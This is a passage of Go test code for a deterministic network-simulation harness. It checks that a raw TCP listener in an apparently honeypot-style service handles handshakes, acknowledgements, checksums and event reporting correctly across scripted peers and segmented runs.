		for _, o := range b.Actors[ai].Ops {
			if o.K == "sleep" {
				continue
			}
			o.Cuts = nil
			o.Join = false
			ops = append(ops, o)
		}
		b.Actors[ai].Ops = ops
	}
	return b
}

func isSegmented(sc *Scenario) bool {
	for _, v := range sc.Schedule {
		if v&(1<<16) != 0 {
			return true
		}
	}
	for _, a := range sc.Actors {
		for _, o := range a.Ops {
			if len(o.Cuts) > 0 || o.Join {
				return true
			}
		}
	}
	return false
}

// connEvents returns the projected event lines and raw maps of events whose source is src.
func connEvents(obs *Obs, src string, skip map[string]bool) (lines []string, maps []map[string]interface{}) {
	for _, e := range obs.Events {
		if isHeartbeat(e.M) {
			continue
		}
		if eventSrc(e.M) != src {
			continue
		}
		lines = append(lines, EventLine(e.M, skip))
		maps = append(maps, e.M)
	}
	return
}

// checkWants verifies that every expected event occurs exactly once and in order.
func checkWants(a *Actor, maps []map[string]interface{}) (kind, field, detail string) {
	pos := -1
	for oi, o := range a.Ops {
		if a.Kind == "udp" {
			// every datagram has its own handler goroutine: order is only meaningful within one datagram
			pos = -1
		}
		for _, w := range opWants(o) {
			var hits []int
			for i, m := range maps {
				v, ok := m[w.Field]
				if ok && canonValue(v) == w.Value {
					hits = append(hits, i)
				}
			}
			if len(hits) == 0 {
				return "event-missing", w.Field, fmt.Sprintf("op %d (%s): no event with %s=%q among %d events of the connection", oi, o.Note, w.Field, w.Value, len(maps))
			}
			if len(hits) > 1 {
				return "event-duplicated", w.Field, fmt.Sprintf("op %d (%s): %d events with %s=%q", oi, o.Note, len(hits), w.Field, w.Value)
			}
			if hits[0] < pos {
				return "event-out-of-order", w.Field, fmt.Sprintf("op %d (%s): event with %s=%q precedes an earlier command's event", oi, o.Note, w.Field, w.Value)
			}
			pos = hits[0]
			m := maps[hits[0]]
			keys := make([]string, 0, len(w.More))
			for k := range w.More {
				keys = append(keys, k)
			}
			sort.Strings(keys)
			for _, k := range keys {
				if got := canonValue(m[k]); got != w.More[k] {
					return "event-field-wrong", k, fmt.Sprintf("op %d (%s): event %s=%q has %s=%q, want %q", oi, o.Note, w.Field, w.Value, k, short(got, 200), short(w.More[k], 200))
				}
			}
		}
	}
	return "", "", ""
}

var c04Skip = map[string]bool{
	"ftp.sessionid": true, "http.sessionid": true, "telnet.sessionid": true, "token": true,
}

func runC04(t *testing.T, sc *Scenario) Result {
	res := okResult()
	pn := sc.ParamStr("proto", "")
	obsV := RunScenario(t, sc, nil)
	res.Digest = traceDigest(obsV, c04Skip)
	if os.Getenv("VERIF_TRACE") != "" {
		res.Sample = dumpObs(obsV, c04Skip)
	}
	res.Steps = obsV.Steps
	res.SimMs = obsV.SimMs
	res.Nontriv = isSegmented(sc)
	if obsV.BootErr != "" {
		res.Violate("infra", "boot", obsV.BootErr)
		return res
	}
	if e := obsV.Extra["tls-handshake-error"]; e != nil {
		res.Violate("tls-upgrade-failed", pn, fmt.Sprintf("the service accepted the upgrade command but the TLS handshake failed: %v", e))
		return res
	}
	if strings.Contains(sc.Class, "+tls") {
		res.probe("dialogues-inside-tls", 1)
	}
	base := baselineOf(sc)
	obsB := RunScenario(t, base, nil)
	res.Runs = 2
	for ai := range sc.Actors {
		a := &sc.Actors[ai]
		if a.Kind != "tcp" && a.Kind != "udp" {
			continue
		}
		linesV, mapsV := connEvents(obsV, a.Src, c04Skip)
		linesB, mapsB := connEvents(obsB, a.Src, c04Skip)
		if k, f, d := checkWants(&base.Actors[ai], mapsB); k != "" {
			res.Violate(k+"/baseline", pn+":"+f, d)
			return res
		}
		if k, f, d := checkWants(a, mapsV); k != "" {
			res.Violate(k+"/segmented", pn+":"+f, d)
			return res
		}
		if a.Kind == "udp" {
			// handlers of different datagrams are different goroutines: compare as multisets
			sortTogether(linesV, mapsV)
			sortTogether(linesB, mapsB)
		}
		if len(linesV) != len(linesB) {
			res.Violate("event-count-differs-by-segmentation", pn, fmt.Sprintf("baseline %d events, segmented %d events\nbaseline:\n%s\nsegmented:\n%s", len(linesB), len(linesV), short(joinLines(linesB), 600), short(joinLines(linesV), 600)))
			return res
		}
		for i := range linesV {
			if linesV[i] != linesB[i] {
				f := firstDiffField(mapsB[i], mapsV[i], c04Skip)
				res.Violate("event-differs-by-segmentation", pn+":"+f, fmt.Sprintf("event %d differs\nbaseline:  %s\nsegmented: %s", i, short(linesB[i], 500), short(linesV[i], 500)))
				return res
			}
		}
		res.probe("events-compared", len(linesV))
	}
	res.probe("segments", obsV.Steps)
	for _, f := range sc.Faults {
		res.fault(f, 1)
	}
	return res
}

func firstDiffField(a, b map[string]interface{}, skip map[string]bool) string {
	keys := map[string]bool{}
	for k := range a {
		keys[k] = true
	}
	for k := range b {
		keys[k] = true
	}
	var ks []string
	for k := range keys {
		if !volatileKeys[k] && !skip[k] {
			ks = append(ks, k)
		}
	}
	sort.Strings(ks)
	for _, k := range ks {
		va, oka := a[k]
		vb, okb := b[k]
		if oka != okb || canonValue(va) != canonValue(vb) {
			return k
		}
	}
	return strings.Join(ks, ",")
}

func sortTogether(lines []string, maps []map[string]interface{}) {
	idx := make([]int, len(lines))
	for i := range idx {
		idx[i] = i
	}
	sort.SliceStable(idx, func(a, b int) bool { return lines[idx[a]] < lines[idx[b]] })
	l2 := make([]string, len(lines))
	m2 := make([]map[string]interface{}, len(maps))
	for i, j := range idx {
		l2[i], m2[i] = lines[j], maps[j]
	}
	copy(lines, l2)
	copy(maps, m2)
}
