package htsim

import _ "unsafe" // go:linkname

// runtimeGoyield is runtime.goyield: like Gosched, but the goroutine goes to the tail of the CURRENT P's local run
// queue.  Gosched puts it on the global queue, which the scheduler polls on every 61st tick - an order that depends
// on the history of the process and would break replay.  (Needs -ldflags=-checklinkname=0; see build.sh.)
//
//go:linkname runtimeGoyield runtime.goyield
func runtimeGoyield()
