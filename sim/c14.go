package htsim

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"strings"
	"testing"
	"testing/synctest"
	"time"
)

// C14 — raw-listener TCP handshake, acks and checksums hold for all sequence numbers.
//
// Scripted TCP peers emit frames into the simulated NIC; the real canary.New and the real Start()
// loop consume them.  An independent decoder verifies every emitted frame.  1-4 peers are
// interleaved frame by frame by the choice tape; each peer is then re-run alone.

func init() {
	engines["C14"] = &Engine{Gen: genC14, Run: runC14}
}

var c14ISNs = []uint32{0, 1, 0x7fffffff, 0x80000000, 0xfffffffe, 0xffffffff}
var c14Decoded = []int{23, 80, 443, 139, 445, 1433, 6379, 9200}

type c14Peer struct {
	IP    string `json:"ip"`
	Port  int    `json:"port"`
	DPort int    `json:"dport"`
	ISN   uint32 `json:"isn"`
	ViaGW bool   `json:"via_gw"` // no ARP entry for the peer: frames go to the gateway's MAC
	// Crossed: the listener closes first (the peer stays silent past the handler's read timeout) and the peer's
	// own FIN still carries the acknowledgement number from before the listener's FIN - the FINs crossed
	Crossed bool `json:"crossed,omitempty"`
	// Again: the same address and port pair as the first peer, connecting again after that connection has ended
	Again bool `json:"again,omitempty"`
}

func genC14(seed uint64, idx int, tier string) *Scenario {
	r := NewRng(seed, "c14")
	sc := &Scenario{Engine: "c14", Params: map[string]interface{}{}}
	np := r.Range(1, 4)
	if r.Chance(0.4) {
		np = 1
	}
	var peers []c14Peer
	reinc := np >= 2 && r.Chance(0.2)
	nc := rawNetConfig{GatewayRoute: true, GatewayARP: true}
	for i := 0; i < np; i++ {
		p := c14Peer{IP: fmt.Sprintf("10.0.%d.%d", r.Intn(3), 5+i), Port: r.Range(1024, 65535), DPort: r.Range(1, 65535)}
		if r.Chance(0.3) {
			p.DPort = c14Decoded[r.Intn(len(c14Decoded))]
		}
		if p.DPort == 22 || p.Port == 22 {
			p.DPort = 2222
		}
		if r.Chance(0.5) {
			p.ISN = c14ISNs[r.Intn(len(c14ISNs))]
		} else {
			p.ISN = r.Uint32()
		}
		if r.Chance(0.25) {
			p.ViaGW = true
		} else {
			nc.ARPPeers = append(nc.ARPPeers, p.IP)
		}
		// same address, different port for some peers - and the same port pair from different
		// addresses for others (state-table lookups are by the full 4-tuple)
		if i > 0 && r.Chance(0.3) {
			p.IP = peers[0].IP
			p.ViaGW = peers[0].ViaGW
		} else if i > 0 && r.Chance(0.4) {
			p.Port = peers[0].Port
			p.DPort = peers[0].DPort
		}
		if i == 1 && reinc {
			// the same client address and port connect again (new ISN) after their first connection has ended -
			// listener-first or peer-first: the first connection's entry may still sit in the state table
			p.IP, p.Port, p.DPort, p.ViaGW = peers[0].IP, peers[0].Port, peers[0].DPort, peers[0].ViaGW
			p.Again = true
			// (a new connection, not a retransmitted SYN: its ISN lies well ahead of everything the first one used)
			p.ISN = peers[0].ISN + uint32(r.Range(70000, 1<<30))
		}
		peers = append(peers, p)
		a := Actor{Kind: "tcppeer", Name: fmt.Sprintf("p%d", i), Src: fmt.Sprintf("%s:%d", p.IP, p.Port), Dst: fmt.Sprintf("127.0.0.1:%d", p.DPort)}
		if p.Again {
			a.Ops = append(a.Ops, Op{K: "sleep", Ms: []int64{1, 5000, 70000}[r.Intn(3)]})
		}
		a.Ops = append(a.Ops, Op{K: "syn"}, Op{K: "ack"})
		ackData := r.Chance(0.12) // the segment that acknowledges the SYN-ACK already carries the first data
		total := r.Range(0, 4000)
		if r.Chance(0.3) {
			total = r.Range(0, 40)
		}
		nseg := r.Range(1, 8)
		data := []byte(r.word(total, total))
		if p.DPort == 80 || p.DPort == 9200 {
			data = []byte(fmt.Sprintf("GET /p%d HTTP/1.1\r\nHost: h%d\r\nUser-Agent: %s\r\n\r\n", i, i, r.word(0, 30)))
			total = len(data)
		} else if shaped := rawDecoderPayload(r, p.DPort); shaped != nil && r.Chance(0.7) {
			// what the port's decoder looks for: a TLS record with a ClientHello, an SMB1/SMB2 header, ... (also cut short)
			data = shaped
			total = len(data)
		}
		cuts := r.distinctSortedOrNil(nseg-1, total)
		prev := 0
		pushed := false
		for k, c := range append(cuts, total) {
			seg := data[prev:c]
			prev = c
			op := Op{K: "data", Data: fmt.Sprintf("%x", seg)}
			last := k == len(cuts)
			if (r.Chance(0.4) || last) && len(seg) > 0 {
				op.Note = "psh"
				pushed = true
			}
			if len(seg) == 0 && !last {
				continue
			}
			if ackData && len(seg) > 0 && len(a.Ops) == 2 && a.Ops[1].Data == "" {
				// fold the first data segment into the handshake ACK
				a.Ops[1] = Op{K: "ack", Data: op.Data, Note: op.Note}
				if op.Note != "psh" && r.Chance(0.85) {
					// (unpushed data on the handshake ACK is known finding KF-C14-unpushed-data-on-handshake-ack:
					// generated at a reduced rate, never excluded)
					a.Ops[1].Note = "psh"
				}
				continue
			}
			a.Ops = append(a.Ops, op)
			if r.Chance(0.1) {
				a.Ops = append(a.Ops, Op{K: "sleep", Ms: int64(r.Range(1, 2000))})
			} else if r.Chance(0.05) {
				// an established connection may stay idle for a long time (below the handler's 60 s read timeout)
				// while other peers connect
				a.Ops = append(a.Ops, Op{K: "sleep", Ms: int64(r.Range(30500, 55000))})
			}
		}
		_ = pushed
		if r.Chance(0.12) {
			peers[len(peers)-1].Crossed = true
			a.Ops = append(a.Ops, Op{K: "sleep", Ms: 61500})
		}
		a.Ops = append(a.Ops, Op{K: "fin"})
		sc.Actors = append(sc.Actors, a)
	}
	pj, _ := json.Marshal(peers)
	var pl []interface{}
	json.Unmarshal(pj, &pl)
	sc.Params["peers"] = pl
	nj, _ := json.Marshal(nc)
	var nm map[string]interface{}
	json.Unmarshal(nj, &nm)
	sc.Params["net"] = nm
	sc.Config = rawBaseConfig
	sc.Schedule = r.Schedule(120)
	sc.Class = fmt.Sprintf("peers=%d", np)
	if reinc {
		// strictly one peer after the other: the second connection of the pair starts when the first has ended
		sc.Schedule = nil
		sc.Class += " same-pair-again"
	}
	sc.DrainMs = 70000
	return sc
}

func (r *Rng) distinctSortedOrNil(k, n int) []int {
	if k <= 0 || n <= 1 {
		return nil
	}
	return r.distinctSorted(k, n)
}

// peerState is the scripted TCP peer at run time.
type peerState struct {
	c14Peer
	started   bool // its SYN has been sent
	ip        net.IP
	mac       net.HardwareAddr // the MAC frames to this peer must carry
	seq       uint32           // next sequence number to send
	srvISN    uint32
	haveSrv   bool
	srvNext   uint32 // next expected server sequence number
	sentBytes uint32
	finSent   bool
	stream    []byte
	firstPush int // bytes up to and including the first pushed segment (0 = none pushed)
	// observations
	frames                          []string // canonical rendering of frames the listener sent to this peer (relative numbers)
	synAck                          bool
	finSeen                         bool
	finAcked                        bool
	viol                            string
	dataAcks                        int
	timeline                        []string
	lastSegMs, maxGapMs             int64 // last data segment; longest silence before a data segment
	estMs, firstPushMs, firstDataMs int64 // simulated times of the handshake ACK, the first pushed segment, the first data
	ackWithData                     bool
	ackUnpushed                     int    // bytes the handshake ACK carried without PSH
	heldFin                         uint32 // crossed peers: sequence number after the listener's FIN, not acknowledged yet
	crossedFins                     bool
	needAck                         bool   // a data segment was sent whose acknowledgement has not been seen yet
	wantAck                         uint32 // the acknowledgement number it must carry
}

type c14Run struct {
	obs    *Obs
	peers  []*peerState
	viol   []string
	frames int
}

func decodePeers(sc *Scenario) ([]c14Peer, rawNetConfig) {
	var peers []c14Peer
	b, _ := json.Marshal(sc.Params["peers"])
	json.Unmarshal(b, &peers)
	var nc rawNetConfig
	b, _ = json.Marshal(sc.Params["net"])
	json.Unmarshal(b, &nc)
	return peers, nc
}

func c14Execute(t *testing.T, sc *Scenario) *c14Run {
	run := &c14Run{}
	peers, nc := decodePeers(sc)
	run.obs = RunScenario(t, sc, func(w *World) {
		var sys *SimSys
		w.PreBoot = func(dir string) { sys = installSimSys(dir, nc, &w.step) }
		if err := w.bootServer(sc.Config); err != nil {
			w.Obs.BootErr = err.Error()
			return
		}
		byName := map[string]*peerState{}
		for i, p := range peers {
			ps := &peerState{c14Peer: p, ip: net.ParseIP(p.IP).To4(), seq: p.ISN}
			ps.mac = peerMAC(ps.ip)
			if p.ViaGW {
				ps.mac = gatewayMAC
			}
			run.peers = append(run.peers, ps)
			if i < len(sc.Actors) {
				byName[sc.Actors[i].Name] = ps
			}
		}
		for i := range peers {
			byName[fmt.Sprintf("p%d", i)] = run.peers[i]
		}
		seen := 0
		inject := func(ps *peerState, flags byte, payload []byte) {
			ack := uint32(0)
			if ps.haveSrv {
				ack = ps.srvNext
				if flags&tcpSYN == 0 {
					flags |= tcpACK
				}
			}
			seg := tcpSegment(ps.ip, sensorRaw, uint16(ps.Port), uint16(ps.DPort), ps.seq, ack, flags, 65535, nil, payload)
			pkt := ipv4Packet(ps.ip, sensorRaw, 6, uint16(ps.seq), seg)
			src := peerMAC(ps.ip)
			if ps.ViaGW {
				src = gatewayMAC
			}
			fr := ethFrame(sensorMAC, src, 0x0800, pkt)
			if ps.Port%2 == 0 && len(fr) < 60 {
				// (peers with an even port sit on a real wire: short frames are padded to the Ethernet minimum)
				fr = append(fr, make([]byte, 60-len(fr))...)
			}
			sys.Inject(fr)
		}
		process := func() {
			fr := sys.SentFrames()
			for ; seen < len(fr); seen++ {
				run.frames++
				d := decodeTCPFrame(fr[seen].Data)
				if d.Err != "" {
					run.viol = append(run.viol, "malformed-frame|emitted frame does not decode: "+d.Err)
					continue
				}
				var ps *peerState
				for _, p := range run.peers {
					// (of two connections of one address/port pair, the one that has started last is the live one)
					if p.ip.Equal(d.DstIP) && uint16(p.Port) == d.DPort && uint16(p.DPort) == d.SPort {
						// two connections of one address/port pair: a frame belongs to the one whose sequence space
						// its acknowledgement number lies in (their ISNs are at least 70000 apart, streams < 5000 bytes)
						if ps == nil || (d.Flags&tcpACK != 0 && d.Ack-p.ISN < d.Ack-ps.ISN) || (d.Flags&tcpACK == 0 && p.started) {
							ps = p
						}
					}
				}
				if ps == nil {
					run.viol = append(run.viol, fmt.Sprintf("frame-to-nobody|frame to %s:%d from port %d matches no peer", d.DstIP, d.DPort, d.SPort))
					continue
				}
				if !d.IPCsumOK {
					ps.fail("bad-ip-checksum|IPv4 header checksum of a frame to %s is wrong", ps.IP)
				}
				if !d.TCPCsumOK {
					ps.fail("bad-tcp-checksum|TCP checksum of a frame to %s:%d is wrong (flags %#x, %d payload bytes)", ps.IP, ps.Port, d.Flags, len(d.Payload))
				}
				if !d.SrcIP.Equal(sensorRaw) {
					ps.fail("wrong-source-address|frame source %s, sensor is %s", d.SrcIP, sensorRaw)
				}
				if !bytes.Equal(d.DstMAC, ps.mac) || !bytes.Equal(d.SrcMAC, sensorMAC) {
					ps.fail("wrong-mac|frame %s -> %s, expected %s -> %s", d.SrcMAC, d.DstMAC, sensorMAC, ps.mac)
				}
				switch {
				case d.Flags&tcpSYN != 0:
					if d.Flags&tcpACK == 0 || d.Ack != ps.ISN+1 {
						ps.fail("synack-wrong-ack|SYN-ACK flags %#x acknowledges %d, ISN+1 is %d", d.Flags, d.Ack, ps.ISN+1)
					}
					if !ps.haveSrv {
						ps.haveSrv = true
						ps.srvISN = d.Seq
						ps.srvNext = d.Seq + 1
						ps.synAck = true
					}
				default:
					want := ps.ISN + 1 + ps.sentBytes
					if ps.finSent {
						// before or after the FIN was processed
						if d.Ack != want && d.Ack != want+1 {
							ps.fail("wrong-ack-number|frame (flags %#x) acknowledges %d, expected %d or %d after %d bytes + FIN", d.Flags, d.Ack, want, want+1, ps.sentBytes)
						}
						if d.Ack == want+1 && d.Flags&tcpACK != 0 {
							ps.finAcked = true
						}
						if d.Flags&tcpACK != 0 && ps.needAck && (d.Ack == ps.wantAck || d.Ack == ps.wantAck+1) {
							ps.needAck = false
						}
					} else if d.Flags&tcpACK != 0 && d.Ack != want {
						ps.fail("wrong-ack-number|frame (flags %#x) acknowledges %d, expected ISN+1+%d = %d", d.Flags, d.Ack, ps.sentBytes, want)
					} else if d.Flags&tcpACK != 0 && len(d.Payload) == 0 && d.Flags&tcpFIN == 0 {
						ps.dataAcks++
					}
					if d.Flags&tcpACK != 0 && ps.needAck && d.Ack == ps.wantAck {
						ps.needAck = false
					}
					if d.Flags&tcpFIN != 0 {
						ps.finSeen = true
					}
				}
				rel := d.Seq - ps.srvISN
				ps.frames = append(ps.frames, fmt.Sprintf("flags=%#x seq=+%d ack=+%d len=%d", d.Flags, rel, d.Ack-ps.ISN, len(d.Payload)))
				// the peer acknowledges what it received
				if ps.haveSrv && ps.Crossed && d.Flags&tcpFIN != 0 && !ps.finSent {
					// the peer has not "seen" the listener's FIN yet: it is acknowledged after the peer's own FIN
					ps.heldFin = d.Seq + uint32(len(d.Payload)) + 1
					if len(d.Payload) > 0 {
						ps.srvNext = d.Seq + uint32(len(d.Payload))
						inject(ps, tcpACK, nil)
					}
				} else if ps.haveSrv {
					adv := uint32(len(d.Payload))
					if d.Flags&(tcpSYN|tcpFIN) != 0 {
						adv++
					}
					if d.Seq+adv-ps.srvNext < 1<<31 && d.Seq+adv != ps.srvNext {
						ps.srvNext = d.Seq + adv
					}
					if d.Flags&tcpFIN != 0 || len(d.Payload) > 0 {
						inject(ps, tcpACK, nil)
					}
				}
			}
		}
		w.Custom = func(w *World, ai int, op Op) {
			ps := byName[w.Sc.Actors[ai].Name]
			if ps == nil {
				return
			}
			switch op.K {
			case "syn":
				ps.started = true
				inject(ps, tcpSYN, nil)
				ps.seq = ps.ISN + 1
			case "ack":
				ps.estMs = w.nowMs()
				if b := op.Bytes(); len(b) > 0 {
					// handshake ACK with data (RFC 793 allows it): everything that holds for a data segment holds
					fl := byte(tcpACK)
					if op.Note == "psh" {
						fl |= tcpPSH
					}
					inject(ps, fl, b)
					ps.seq += uint32(len(b))
					ps.sentBytes += uint32(len(b))
					ps.stream = append(ps.stream, b...)
					if ps.haveSrv {
						ps.needAck = true
						ps.wantAck = ps.ISN + 1 + ps.sentBytes
					}
					if op.Note == "psh" {
						ps.firstPush = len(ps.stream)
						ps.firstPushMs = w.nowMs()
						ps.lastSegMs = w.nowMs()
					}
					ps.firstDataMs = w.nowMs()
					ps.ackWithData = true
					if op.Note != "psh" {
						ps.ackUnpushed = len(b)
					}
				} else {
					inject(ps, tcpACK, nil)
				}
			case "data":
				b := op.Bytes()
				fl := byte(tcpACK)
				if op.Note == "psh" {
					fl |= tcpPSH
				}
				inject(ps, fl, b)
				ps.seq += uint32(len(b))
				ps.sentBytes += uint32(len(b))
				ps.stream = append(ps.stream, b...)
				if len(b) > 0 && ps.haveSrv {
					ps.needAck = true
					ps.wantAck = ps.ISN + 1 + ps.sentBytes
				}
				if op.Note == "psh" && ps.firstPush == 0 {
					ps.firstPush = len(ps.stream)
					ps.firstPushMs = w.nowMs()
				}
				if ps.firstDataMs == 0 && len(b) > 0 {
					ps.firstDataMs = w.nowMs()
				}
				// the listener hands received data to its handler when a segment carries PSH (or FIN); the handler
				// waits 60 s per read: what matters is the silence between such wake-ups
				if op.Note == "psh" {
					if last := max(ps.lastSegMs, ps.estMs); w.nowMs()-last > ps.maxGapMs {
						ps.maxGapMs = w.nowMs() - last
					}
					ps.lastSegMs = w.nowMs()
				}
				ps.timeline = append(ps.timeline, fmt.Sprintf("%d:%d", w.nowMs(), len(b)))
			case "fin":
				if last := max(ps.lastSegMs, ps.estMs); w.nowMs()-last > ps.maxGapMs {
					ps.maxGapMs = w.nowMs() - last
				}
				inject(ps, tcpFIN|tcpACK, nil)
				ps.seq++
				ps.finSent = true
				if ps.heldFin != 0 {
					// now the listener's FIN "arrives" at the peer and is acknowledged
					ps.srvNext = ps.heldFin
					ps.heldFin = 0
					ps.crossedFins = true
					inject(ps, tcpACK, nil)
				}
			}
		}
		w.StepCheck = func(w *World) string {
			// let the listener answer, then let the peers react, until nothing moves
			for k := 0; k < 8; k++ {
				before := seen
				process()
				synctest.Wait()
				if seen == before && len(sys.SentFrames()) == seen {
					break
				}
			}
			// every data segment is acknowledged with exactly the bytes received so far
			for _, ps := range run.peers {
				if ps.needAck && ps.viol == "" {
					ps.fail("data-not-acknowledged|after %d bytes no frame acknowledges %d (ISN %d + 1 + bytes received, modulo 2^32)", ps.sentBytes, ps.wantAck, ps.ISN)
					ps.needAck = false
				}
			}
			return ""
		}
		w.Play()
		// drain with peers reacting
		for _, ms := range []int64{10, 990, 4000, 25000, 31000, 10000} {
			w.step++
			hub.setStep(w.step)
			time.Sleep(time.Duration(ms) * time.Millisecond)
			synctest.Wait()
			w.StepCheck(w)
		}
		w.Obs.Extra["frames_in"] = sys.RxCount
		w.Obs.Extra["frames_out"] = len(sys.SentFrames())
	})
	return run
}

func (ps *peerState) fail(format string, a ...interface{}) {
	if ps.viol == "" {
		ps.viol = fmt.Sprintf(format, a...)
	}
}

func runC14(t *testing.T, sc *Scenario) Result {
	res := okResult()
	// two connections of one address/port pair only make sense one after the other and complete (a minimised
	// script in which the second lost its SYN would send its data into the first connection): not judged otherwise
	if pl, ok := sc.Params["peers"].([]interface{}); ok && len(pl) > 1 {
		if m, ok := pl[1].(map[string]interface{}); ok && m["again"] == true && !(c14Complete(sc, 0) && c14Complete(sc, 1)) {
			return res
		}
	}
	run := c14Execute(t, sc)
	obs := run.obs
	res.Digest = traceDigest(obs, nil)
	res.Steps, res.SimMs = obs.Steps, obs.SimMs
	res.Nontriv = len(sc.Actors) > 1
	if obs.BootErr != "" {
		res.Violate("infra", "boot", obs.BootErr)
		return res
	}
	split := func(v string) (string, string) {
		p := strings.SplitN(v, "|", 2)
		return p[0], p[1]
	}
	for _, v := range run.viol {
		k, d := split(v)
		res.Violate(k, "raw-tcp", d)
		return res
	}
	for i, ps := range run.peers {
		complete := c14Complete(sc, i)
		if ps.viol != "" {
			k, d := split(ps.viol)
			res.Violate(k, "raw-tcp", fmt.Sprintf("peer %d (%s:%d -> port %d, ISN %d): %s", i, ps.IP, ps.Port, ps.DPort, ps.ISN, d))
			return res
		}
		if !complete {
			continue
		}
		if !ps.synAck {
			res.Violate("no-synack", "raw-tcp", fmt.Sprintf("peer %d (%s:%d -> port %d, ISN %d): SYN was not answered", i, ps.IP, ps.Port, ps.DPort, ps.ISN))
			return res
		}
		if ps.finSent && !ps.finAcked {
			res.Violate("fin-not-answered", "raw-tcp", fmt.Sprintf("peer %d (%s:%d -> port %d): FIN after %d bytes was not acknowledged; frames: %v", i, ps.IP, ps.Port, ps.DPort, ps.sentBytes, ps.frames))
			return res
		}
		// the event
		var evs []map[string]interface{}
		for _, e := range obs.Events {
			// (two peers may share address and source port and differ in the destination port only)
			if dp, ok := e.M["destination-port"]; ok && fmt.Sprint(dp) != fmt.Sprint(ps.DPort) {
				continue
			}
			if fmt.Sprint(e.M["source-ip"]) == ps.IP && fmt.Sprint(e.M["source-port"]) == fmt.Sprint(ps.Port) && e.M["category"] != "portscan" {
				evs = append(evs, e.M)
			}
		}
		if ps.Again || (i == 0 && len(run.peers) > 1 && run.peers[1].Again) {
			// two connections of one address/port pair: one event each, in the order of the connections
			k := 0
			if ps.Again {
				k = 1
			}
			both := c14Complete(sc, 0) && c14Complete(sc, 1)
			if both && len(evs) == 2 {
				evs = evs[k : k+1]
				res.probe("same-pair-connected-again", 1)
			} else if both && ps.DPort != 80 && ps.DPort != 9200 {
				res.Violate("same-pair-connections-misreported", "raw-tcp", fmt.Sprintf("peer %d: the address/port pair %s:%d -> %d connected twice, %d events carry it (first connection %d bytes, second %d bytes); frames of the second: %v", i, ps.IP, ps.Port, ps.DPort, len(evs), len(run.peers[0].stream), len(run.peers[1].stream), run.peers[1].frames))
				return res
			} else {
				continue
			}
		}
		// the listener's handler waits 60 s for data; a peer whose first data comes later than that after the
		// handshake is reported with what had arrived by then (possibly nothing) - not judged for content
		late := ps.firstPush > 0 && ps.firstPushMs-ps.estMs >= 59000 || ps.firstDataMs-ps.estMs >= 59000 || ps.maxGapMs >= 59000
		if ps.DPort == 80 || ps.DPort == 9200 {
			// (minimised scripts) what is left of the request may not be a request any more
			if _, err := http.ReadRequest(bufio.NewReader(bytes.NewReader(ps.stream))); err != nil {
				late = true
			}
		}
		if late {
			res.probe("first-data-after-read-timeout", 1)
		}
		if len(evs) == 0 {
			if late && (ps.DPort == 80 || ps.DPort == 9200) {
				continue // the HTTP decoders report only what parses as a request
			}
			res.Violate("connection-not-reported", "raw-tcp", fmt.Sprintf("peer %d (%s:%d -> port %d): no event carries the peer's address and port (%d bytes sent, first push at %d; established at %d ms, first data at %d ms, longest silence before a pushed segment %d ms); segments sent (ms:bytes) %v; frames to the peer: %v", i, ps.IP, ps.Port, ps.DPort, ps.sentBytes, ps.firstPush, ps.estMs, ps.firstDataMs, ps.maxGapMs, ps.timeline, ps.frames))
			return res
		}
		// the decoders of 80 and 9200 report what parses as an HTTP request (fields, no payload); every other port -
		// decoded or not - reports what the first read returned
		if ps.DPort != 80 && ps.DPort != 9200 {
			if len(evs) != 1 {
				res.Violate("connection-reported-twice", "raw-tcp", fmt.Sprintf("peer %d: %d events", i, len(evs)))
				return res
			}
			m := evs[0]
			if fmt.Sprint(m["destination-port"]) != fmt.Sprint(ps.DPort) || fmt.Sprint(m["destination-ip"]) != "127.0.0.1" {
				res.Violate("event-wrong-destination", "raw-tcp", fmt.Sprintf("peer %d: event destination %v:%v, connection went to 127.0.0.1:%d", i, m["destination-ip"], m["destination-port"], ps.DPort))
				return res
			}
			pl, _ := m["payload"].(string)
			if !bytes.HasPrefix(ps.stream, []byte(pl)) {
				res.Violate("event-payload-not-a-prefix", "raw-tcp", fmt.Sprintf("peer %d: event payload (%d bytes) is not a prefix of the %d bytes sent", i, len(pl), len(ps.stream)))
				return res
			}
			if len(pl) < ps.firstPush && len(pl) < 2048 && !late {
				site := "raw-tcp"
				if ps.ackUnpushed > 0 && len(pl) == ps.ackUnpushed {
					// known finding KF-C14-unpushed-data-on-handshake-ack: exactly the unpushed bytes the handshake ACK carried
					site = "raw-tcp:unpushed-data-on-handshake-ack"
				}
				res.Violate("event-payload-misses-first-push", site, fmt.Sprintf("peer %d: event payload has %d bytes, the first pushed segment ends at %d", i, len(pl), ps.firstPush))
				return res
			}
		}
		res.probe("connections-verified", 1)
		if ps.crossedFins {
			res.probe("crossed-fins", 1)
		}
		if ps.ackWithData {
			res.probe("data-on-handshake-ack", 1)
		}
	}
	res.probe("frames-verified", run.frames)
	// solo-run equivalence per peer
	if len(sc.Actors) > 1 {
		i := int(sc.Seed % uint64(len(run.peers)))
		if c14Complete(sc, i) {
			solo := sc.Clone()
			for k := range solo.Actors {
				if solo.Actors[k].Name != fmt.Sprintf("p%d", i) {
					// keep clock advances of the others
					var ops []Op
					for _, o := range solo.Actors[k].Ops {
						if o.K == "sleep" {
							ops = append(ops, o)
						} else {
							ops = append(ops, Op{K: "nop"})
						}
					}
					solo.Actors[k].Ops = ops
					solo.Actors[k].Kind = "idle"
				}
			}
			srun := c14Execute(t, solo)
			res.Runs = 2
			if srun.obs.BootErr == "" {
				a, b := strings.Join(run.peers[i].frames, "\n"), strings.Join(srun.peers[i].frames, "\n")
				if a != b {
					res.Violate("peer-disturbed-by-other-connections", "raw-tcp", fmt.Sprintf("frames sent to peer %d with %d other peers:\n%s\nalone:\n%s", i, len(sc.Actors)-1, short(a, 600), short(b, 600)))
					return res
				}
				res.probe("solo-compared", 1)
			}
		}
	}
	return res
}

// c14Complete: the (possibly minimised) script of peer i still performs a full connection.
func c14Complete(sc *Scenario, i int) bool {
	for _, a := range sc.Actors {
		if a.Name != fmt.Sprintf("p%d", i) || a.Kind != "tcppeer" {
			continue
		}
		ops := a.Ops
		for len(ops) > 0 && ops[0].K == "sleep" {
			ops = ops[1:] // (a connection that starts after a pause)
		}
		return len(ops) >= 3 && ops[0].K == "syn" && ops[1].K == "ack" && ops[len(ops)-1].K == "fin"
	}
	return false
}

// rawDecoderPayload: a first client message of the kind the raw listener's decoder for that port looks at,
// sometimes cut short or with lying length fields.  nil for ports without a decoder.
func rawDecoderPayload(r *Rng, dport int) []byte {
	var b []byte
	switch dport {
	case 443:
